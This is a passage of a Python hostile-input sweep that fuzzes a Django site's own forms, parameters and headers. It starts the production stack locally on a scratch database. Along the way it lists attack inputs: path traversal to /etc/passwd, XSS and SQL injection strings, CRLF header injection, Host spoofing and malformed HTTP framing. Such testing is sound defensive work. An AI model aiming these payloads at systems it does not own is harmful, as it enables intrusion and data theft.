                yield lambda target=target, detail=detail: send(report, visitor, "GET", target, detail=detail)


CONTENT_TYPES = [
    b"text/plain",
    b"application/json",
    b"application/xml",
    b"multipart/form-data",
    b"multipart/form-data; boundary=",
    b"multipart/form-data; boundary=sweep",
    b"application/x-www-form-urlencoded; charset=utf-16",
    b"application/x-www-form-urlencoded; charset=hex",
    b"application/x-www-form-urlencoded; charset=idna",
    b"application/x-www-form-urlencoded; charset=latin-1",
    b"application/x-www-form-urlencoded; charset=no-such-charset",
    b"application/x-www-form-urlencoded; charset=",
    b"text/plain; charset=base64",
    b"\xff\xfe/\xff",
    b"application/x-www-form-urlencoded\r\nX-Injected: 1",
]


def jobs_raw(form: Form, visitor: Visitor, token: str, report: Report):
    """Raw requests against one form: bytes unescaped, too many fields, odd Content-Types."""
    path = form.action.encode()
    valid = urlencode(valid_pairs(form, token))
    names = [n for n in form.names() if n != "csrfmiddlewaretoken"] or ["q"]
    first = names[0].encode()
    token_pair = b"csrfmiddlewaretoken=" + token.encode()
    form_type = [("Content-Type", b"application/x-www-form-urlencoded")]
    raw_bodies = {
        "invalid UTF-8 unescaped in the body": valid + b"&" + first + b"=\xff\xfe\xc0\xaf\xed\xa0\x80",
        "NUL bytes unescaped in the body": valid + b"&" + first + b"=a\x00b\x00",
        "unescaped CRLF in the body": valid + b"&" + first + b"=Kari\r\nBcc: victim@example.com",
        "1 MB field": token_pair + b"&" + first + b"=" + b"x" * 1_048_576,
        "1,500 fields": valid + b"".join(b"&f%d=x" % i for i in range(1500)),
        "10,500 fields": valid + b"".join(b"&f%d=x" % i for i in range(10_500)),
        "1,500 values of one field": valid + (b"&" + first + b"=x") * 1500,
        "3 MB body": token_pair + b"&" + first + b"=" + b"y" * 3_000_000,
        "only separators": b"&&&&====&&&",
        "field without name": b"=x&" + valid,
        "percent signs": b"%&%%=%zz&" + valid,
        "empty": b"",
    }
    for label, body in raw_bodies.items():
        detail = f"form {form.action}: {label}"
        yield lambda body=body, detail=detail: send(report, visitor, "POST", path, body, form_type, detail)
    for content_type in CONTENT_TYPES:
        detail = f"form {form.action}: Content-Type {content_type!r}"
        yield lambda ct=content_type, detail=detail: send(report, visitor, "POST", path, valid, [("Content-Type", ct)], detail)
        yield lambda ct=content_type, detail=detail: send(report, visitor, "GET", form.page.encode() + b"?q=%C3%A6", b"",
                                                          [("Content-Type", ct)], "GET " + detail)
    multipart = (
        b"--sweep\r\nContent-Disposition: form-data; name=\"csrfmiddlewaretoken\"\r\n\r\n" + token.encode() + b"\r\n"
        b"--sweep\r\nContent-Disposition: form-data; name=\"" + first + b"\"\r\n\r\n\xff\xfe\x00Kari\r\n"
        b"--sweep\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n"
        b"Content-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--sweep--\r\n"
    )
    for label, body in {"multipart with invalid UTF-8 and a file": multipart,
                        "multipart cut off": multipart[: len(multipart) // 2],
                        "multipart without its end": multipart.replace(b"--sweep--", b"")}.items():
        detail = f"form {form.action}: {label}"
        yield lambda body=body, detail=detail: send(
            report, visitor, "POST", path, body, [("Content-Type", b"multipart/form-data; boundary=sweep")], detail)
    if form.method == "POST":
        # What the view does with its own form by GET, and by other methods.
        for method in ("PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "HEAD"):
            yield lambda method=method: send(report, visitor, method, path, valid, form_type, f"form {form.action}: {method}")
        for origin in (b"http://evil.example", b"null", b"\xff"):
            yield lambda origin=origin: send(report, visitor, "POST", path, valid, form_type + [("Origin", origin)],
                                             f"form {form.action}: Origin {origin!r}")


RAW_TARGETS = [
    b"/finn-gruppe/?q=\xff\xfe\xc0\xaf&kommune=\xff",
    b"/finn-gruppe/?q=a\x00b&tema=\x00",
    b"/finn-gruppe/?q=%FF%FE&tema=%ED%A0%80&kommune=%00",
    b"/finn-gruppe/?" + b"&".join(b"tema=x%d" % i for i in range(1500)),
    b"/finn-gruppe/?" + b"&".join(b"f%d=x" % i for i in range(1200)),
    b"/finn-gruppe/?q=" + b"x" * 3900,
    b"/finn-gruppe/?q=" + b"x" * 9000,  # longer than a request line may be
    b"/finn-gruppe/?q",
    b"/finn-gruppe/?=&&=&q=&q=sorg&q=kreft",
    b"/finn-gruppe/?side=-1",
    b"/finn-gruppe/?side=99999999999999999999",
    b"/finn-gruppe/?side=0x10",
    b"/finn-gruppe/%FF/",
    b"/finn-gruppe/\xff\xfe/",
    b"/finn-gruppe/%00/",
    b"/finn-gruppe/trondelag/%ED%A0%80/",
    b"/finn-gruppe/trondelag/levanger/%F0%9F%98%80/",
    b"/finn-gruppe/../../etc/passwd",
    b"/finn-gruppe/%2e%2e/%2e%2e/etc/passwd",
    b"//evil.example/",
    b"/%5C%5Cevil.example/",
    b"/informasjonsmoter/99999999999999999999/meld-pa/",
    b"/informasjonsmoter/-1/meld-pa/",
    b"/informasjonsmoter/bekreft/%00/",
    b"/informasjonsmoter/pamelding/\xff\xfe/",
    b"/meld-interesse/din/%ED%A0%80/",
    b"/forskning/%FF/meld-deg/",
    b"/min-side/nytt-passord/%FF/%00/",
    b"/min-side/velg-passord/\xff/x/",
    b"/documents/1/%00.pdf",
    b"/static/%FF.css",
    b"/static/../samhold/settings/base.py",
    b"/healthz?\xff",
    b"/en/finn-gruppe/?q=\xff",
    b"/" + b"a/" * 2000,
    b"*",
]

HEADER_ATTACKS = [
    ("Host", b"evil.example"),
    ("Host", b"127.0.0.1:99999"),
    ("Host", b"\xff\xfe"),
    ("Host", b"localhost\x00.evil.example"),
    ("Cookie", b"sessionid=\xff\xfe; csrftoken=\x00"),
    ("Cookie", b"sessionid=" + b"x" * 4000),
    ("Cookie", b"=; ;;=;sessionid"),
    ("Cookie", b"sessionid=' OR 1=1 --"),
    ("Accept-Language", b"\xff\xfe"),
    ("Accept-Language", b"x" * 4000),
    ("Accept-Language", b"en;q=NaN, nb;q=-1, *;q=1e400"),
    ("Accept-Language", b"../../etc/passwd"),
    ("X-Forwarded-For", b"\xff, \x00, unknown, [::1]:99999"),
    ("X-Forwarded-For", b", , ,"),
    ("X-Forwarded-For", b"2001:db8::1"),
    ("X-Forwarded-For", b"999.999.999.999"),
    ("X-Forwarded-Proto", b"https\r\nX: 1"),
    ("X-Forwarded-Host", b"evil.example"),
    ("Referer", b"\xff\xfe://evil"),
    ("User-Agent", b"x" * 8000),
    ("Range", b"bytes=0-0,-1,999999999999999999999-"),
    ("If-Modified-Since", b"\xff"),
    ("If-None-Match", b"\"\x00\""),
    ("Content-Type", b"text/plain; charset=hex"),
    ("Content-Type", b"text/plain; charset=idna"),
    ("Content-Type", b"text/plain; charset=utf-16"),
    ("Content-Length", b"-1"),
    ("Transfer-Encoding", b"chunked, identity"),
    ("Expect", b"100-continue"),
]


def jobs_raw_requests(visitor: Visitor, report: Report, pages: list[str]):
    for target in RAW_TARGETS:
        yield lambda target=target: send(report, visitor, "GET", target, detail="raw target")
    for page in pages:
        for name, value in HEADER_ATTACKS:
            if name in ("Content-Length", "Transfer-Encoding", "Expect") and not isinstance(visitor.transport, WsgiTransport):
                continue  # framing headers: a server (gunicorn) answers those itself, tried once below
            detail = f"header {name}: {shorten(value, 60)} on {page}"
            yield lambda page=page, name=name, value=value, detail=detail: send(
                report, visitor, "GET", page.encode() + b"?q=sorg", b"", [(name, value)], detail)


def run_jobs(jobs, workers: int, log=print):
    jobs = list(jobs)
    if workers <= 1:
        for job in jobs:
            job()
        return len(jobs)
    started, done = time.monotonic(), 0
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as pool:
        pending = set()
        for job in jobs:
            pending.add(pool.submit(job))
            if len(pending) >= workers * 4:
                finished, pending = concurrent.futures.wait(pending, return_when=concurrent.futures.FIRST_COMPLETED)
                for future in finished:
                    future.result()
                    done += 1
                    if done % 5000 == 0:
                        log(f"  {done} of {len(jobs)} sent ({done / (time.monotonic() - started):.0f} a second)")
        for future in concurrent.futures.as_completed(pending):
            future.result()
    return len(jobs)


# Nothing saved twice ------------------------------------------------------------------------------


def twice_entry(form: Form, token: str) -> list[tuple[bytes, bytes]]:
    """One valid submission with hostile but acceptable text: script, SQL, right-to-left and
    emoji in the free-text fields, a fixed address."""
    email = unique_email()
    overrides = {}
    for field in form.fields:
        name = field.name.lower()
        if field.kind == "email" or name in ("email", "username"):
            overrides[field.name] = [email.encode()]
        elif name == "name":
            overrides[field.name] = ["Kari <b>Sveip</b> 😀 \u05e9\u05dc\u05d5\u05dd ' OR '1'='1".encode()]
        elif field.kind == "textarea":
            overrides[field.name] = [
                f"Hei <script>alert('{XSS_MARK}')</script> '; DROP TABLE x; -- 😀 مرحبا \u202e ok".encode()]
        elif field.kind == "text" and name not in ("website", "phone", "q"):
            overrides[field.name] = ["Sveip <i>AS</i> 😀 '--".encode()]
    return valid_pairs(form, token, overrides)


def row_counts() -> dict[str, int]:
    from django.apps import apps

    return {model._meta.db_table: model._default_manager.count() for model in apps.get_models()
            if not model._meta.proxy and model._meta.managed}


def nothing_saved_twice(transport, forms: list[Form], report: Report, counts=row_counts, log=print):
    """Each POST form, one entry sent twice: the second may add only what EXPECTED_REPEATS allows."""
    for form in forms:
        if form.method != "POST" or form.action in FORMS_NOT_TO_SUBMIT_TWICE or form.action.startswith("/en/"):
            continue
        visitor, token = form_session(transport, form)
        body = urlencode(twice_entry(form, token))
        form_type = [("Content-Type", b"application/x-www-form-urlencoded")]
        before = counts()
        first = send(report, visitor, "POST", form.action.encode(), body, form_type, f"form {form.action}: first")
        middle = counts()
        second = send(report, visitor, "POST", form.action.encode(), body, form_type, f"form {form.action}: again")
        after = counts()
        grew_first = {t: middle[t] - before.get(t, 0) for t in middle if middle[t] != before.get(t, 0)}
        grew_again = {t: after[t] - middle.get(t, 0) for t in after if after[t] != middle.get(t, 0)}
        allowed_tables, reason = EXPECTED_REPEATS_BY_FORM.get(form.action, (set(), ""))
        unexpected = {t: n for t, n in grew_again.items() if t not in EXPECTED_REPEATS and t not in allowed_tables}
        statuses = f"{first.status if first else '-'} then {second.status if second else '-'}"
        saved = ", ".join(f"{t} +{n}" for t, n in sorted(grew_first.items()) if t not in EXPECTED_REPEATS) or "nothing"
        log(f"  twice {form.action}: {statuses}; the first saved {saved}"
            + (f"; again: {reason}" if reason and grew_again else ""))
        if unexpected:
            report.find(Finding("saved twice", "POST", form.action,
                                ", ".join(f"{t} +{n}" for t, n in sorted(unexpected.items()))))


def queued_mail_check(report: Report, log=print):
    """Every e-mail the forms queued can be made into a message as the worker makes it: no header
    split by a line break, every address one that mail can be sent to (Django's mail refuses
    them only when sending, so a form that let one through would fail at the worker), and no
    address that a hostile value tried to add."""
    from django.core.mail import EmailMessage

    from outbox.models import OutgoingEmail

    checked = 0
    for email in OutgoingEmail.objects.filter(state=OutgoingEmail.State.PENDING).iterator():
        checked += 1
        addresses = [a for a in email.to.split("\n") if a] + ([email.reply_to] if email.reply_to else [])
        try:
            EmailMessage(subject=email.subject, body=email.body, from_email="ikke-svar@samhold.no",
                         to=[a for a in email.to.split("\n") if a],
                         reply_to=[email.reply_to] if email.reply_to else None).message().as_bytes()
        except Exception as error:  # noqa: BLE001 - whatever it is, the worker would fail on it
            report.find(Finding("queued e-mail cannot be sent", "MAIL", f"#{email.pk} {email.purpose}",
                                f"{type(error).__name__}: {error}"[:200]))
            continue
        if any("victim@" in a or "evil@" in a or "\r" in a or "\n" in a for a in addresses) or "\n" in email.subject:
            report.find(Finding("header injection reached an e-mail", "MAIL", f"#{email.pk} {email.purpose}",
                                shorten(repr(addresses).encode(), 120)))
    log(f"  {checked} queued e-mails checked")


# Running it -------------------------------------------------------------------------------------------


def sweep(transport, *, values=None, workers: int = 4, db_check: bool = False, pages=PUBLIC_PAGES,
          follow: bool = True, raw: bool = True, log=print, counts=row_counts) -> Report:
    values = hostile_values() if values is None else values
    report = Report()
    started = time.monotonic()
    log("Finding the public forms and parameters…")
    forms, parameters = discover(transport, pages, follow=follow, log=log)
    for form in forms:
        log(f"  form {form.method} {form.action} (on {form.page}): {', '.join(form.names())}")
    for path, names in sorted(parameters.items()):
        log(f"  parameters of {path}: {', '.join(sorted(names))}")
    log(f"{len(values)} hostile values into {sum(len(f.names()) for f in forms)} form fields "
        f"and {sum(len(n) for n in parameters.values())} parameters…")
    if db_check:
        # First, while no rate limit of a group or a study has been reached by the sweep.
        log("Sending one entry of every form twice…")
        nothing_saved_twice(transport, forms, report, counts=counts, log=log)
    jobs = []
    for form in forms:
        visitor, token = form_session(transport, form)
        # The English forms are the same views as the Bokmål ones: their raw requests only.
        if not form.page.startswith("/en/"):
            jobs += list(jobs_for_form(form, values, visitor, token, report))
        if raw:
            jobs += list(jobs_raw(form, visitor, token, report))
    visitor = Visitor(transport)
    jobs += list(jobs_for_parameters(parameters, values, visitor, report, forms))
    if raw:
        jobs += list(jobs_raw_requests(visitor, report, ["/", "/finn-gruppe/", "/meld-interesse/"]))
    log(f"{len(jobs)} requests to send…")
    run_jobs(jobs, workers, log=log)
    if db_check:
        log("Checking the e-mails the forms queued…")
        queued_mail_check(report, log=log)
    report.notes.append(f"{len(forms)} forms, {len(values)} values, {time.monotonic() - started:.0f} s")
    return report


def framing_checks(base_url: str, report: Report):
    """Requests whose framing is wrong, each on a connection of its own (gunicorn answers them)."""
    parts = urllib.parse.urlsplit(base_url)
    cases = [
        b"GET /finn-gruppe/ HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"POST /mine-opplysninger/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"GET /finn-gruppe/ HTTP/1.1\r\nHost: x\r\nX-\xff: \x00\r\n\r\n",
        b"GET /finn-gruppe/\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /finn-gruppe/ HTTP/9.9\r\nHost: x\r\n\r\n",
        b"\xff\xfe / HTTP/1.1\r\n\r\n",
        b"GET /finn-gruppe/ HTTP/1.1\r\nHost: x\r\n" + b"X-A: b\r\n" * 200 + b"\r\n",
    ]
    for raw in cases:
        try:
            with socket.create_connection((parts.hostname, parts.port or 80), timeout=30) as sock:
                sock.sendall(raw)
                sock.shutdown(socket.SHUT_WR)
                head = sock.recv(64)
        except OSError:
            head = b""
        match = re.match(rb"HTTP/1\.[01] (\d{3})", head)
        status = int(match.group(1)) if match else None
        if status is None and not head:
            with report.lock:  # closed without an answer: framing refused, not an error page
                report.sent += 1
                report.by_class["closed"] += 1
            continue
        check(report, Response(status or 0, [], b""), "RAW", raw[:60], "framing")


# --serve: the production stack on a scratch database -----------------------------------------------------


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def serve_environment(port: int, database_url: str) -> dict[str, str]:
    environ = {k: v for k, v in os.environ.items() if k not in ("CACHE_URL",)}
    environ.update({
        "DJANGO_SETTINGS_MODULE": "samhold.settings.production",
        "SECRET_KEY": secrets.token_urlsafe(50),
        "ALLOWED_HOSTS": "127.0.0.1,localhost",
        "SITE_URL": f"http://127.0.0.1:{port}",
        "SECURE_SSL_REDIRECT": "false",
        # The sweep sends each request from an address of its own, as a proxy would pass it.
        "SAMHOLD_TRUSTED_PROXY_COUNT": "1",
        "DATABASE_URL": database_url,
        "HOST": "127.0.0.1",
        "PORT": str(port),
        "WEB_CONCURRENCY": os.environ.get("WEB_CONCURRENCY", "3"),
    })
    if os.environ.get("SWEEP_CACHE_URL"):
        environ["CACHE_URL"] = os.environ["SWEEP_CACHE_URL"]
    return environ


@contextlib.contextmanager
def production_stack(database_url: str | None, log=print):
    python = str(ROOT / ".venv" / "bin" / "python") if (ROOT / ".venv" / "bin" / "python").exists() else sys.executable
    gunicorn = str(Path(python).parent / "gunicorn")
    if database_url is None:
        directory = ROOT / "var" / "sweep"
        shutil.rmtree(directory, ignore_errors=True)
        directory.mkdir(parents=True)
        database_url = f"sqlite:///{directory / 'sweep.sqlite3'}"
    port = free_port()
    environ = serve_environment(port, database_url)
    log(f"Preparing the production stack on {database_url.split('@')[-1]} (migrate, geography, themes, demo content, static files)…")
    for command in (["migrate", "--noinput"], ["load_geography"], ["load_themes"], ["seed_demo"],
                    ["collectstatic", "--noinput"]):
        subprocess.run([python, "manage.py", *command, "--verbosity", "0"], cwd=ROOT, env=environ, check=True,
                       stdout=subprocess.DEVNULL)
    log(f"Starting gunicorn with the production settings on 127.0.0.1:{port}…")
    errors = open(ROOT / "var" / "sweep-gunicorn.log", "wb")  # noqa: SIM115 - closed below
    server = subprocess.Popen([gunicorn, "--config", "deploy/gunicorn.conf.py"], cwd=ROOT, env=environ,
                              stdout=errors, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        base_url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 60
        while True:
            try:
                if HttpTransport(base_url, timeout=5).request("GET", b"/healthz", [("Host", b"127.0.0.1")]).status == 200:
                    break
            except (NoAnswer, OSError):
                pass
            if server.poll() is not None or time.monotonic() > deadline:
                raise SystemExit(f"gunicorn did not start: see {errors.name}")
            time.sleep(0.3)
        os.environ.update(environ)  # for the database check in this process
        yield base_url
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGTERM)
        try:
            server.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)
            server.wait()
        errors.close()


def setup_django():
    sys.path.insert(0, str(ROOT))
    import django

    django.setup()


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("base_url", nargs="?", help="a running Samhold, e.g. http://127.0.0.1:8420")
    parser.add_argument("--serve", action="store_true", help="start the production stack on a scratch database first")
    parser.add_argument("--database-url", help="with --serve: this database instead of var/sweep/sweep.sqlite3")
    parser.add_argument("--db-check", action="store_true",
                        help="check that nothing is saved twice, through the database in DATABASE_URL (on with --serve)")
    parser.add_argument("--workers", type=int, default=4, help="requests at once (default 4)")
    parser.add_argument("--values", type=int, default=0, help="only the first N values (default all)")
    args = parser.parse_args(argv)
    if bool(args.base_url) == args.serve:
        parser.error("give either a base URL or --serve")
    values = hostile_values()
    if args.values:
        values = values[: args.values]
    with contextlib.ExitStack() as stack:
        base_url = args.base_url.rstrip("/") if args.base_url else stack.enter_context(production_stack(args.database_url))
        db_check = args.serve or args.db_check
        if db_check:
            os.environ.setdefault("DJANGO_SETTINGS_MODULE", "samhold.settings.production")
            setup_django()
        report = sweep(HttpTransport(base_url), values=values, workers=args.workers, db_check=db_check)
        framing_checks(base_url, report)
    print()
    print("Hostile-input sweep: " + "; ".join(report.notes))
    print(report.summary())
    for finding in report.findings[:200]:
        print(f"  {finding}")
    if len(report.findings) > 200:
        print(f"  … and {len(report.findings) - 200} more")
    return 1 if report.findings else 0


if __name__ == "__main__":
    sys.exit(main())
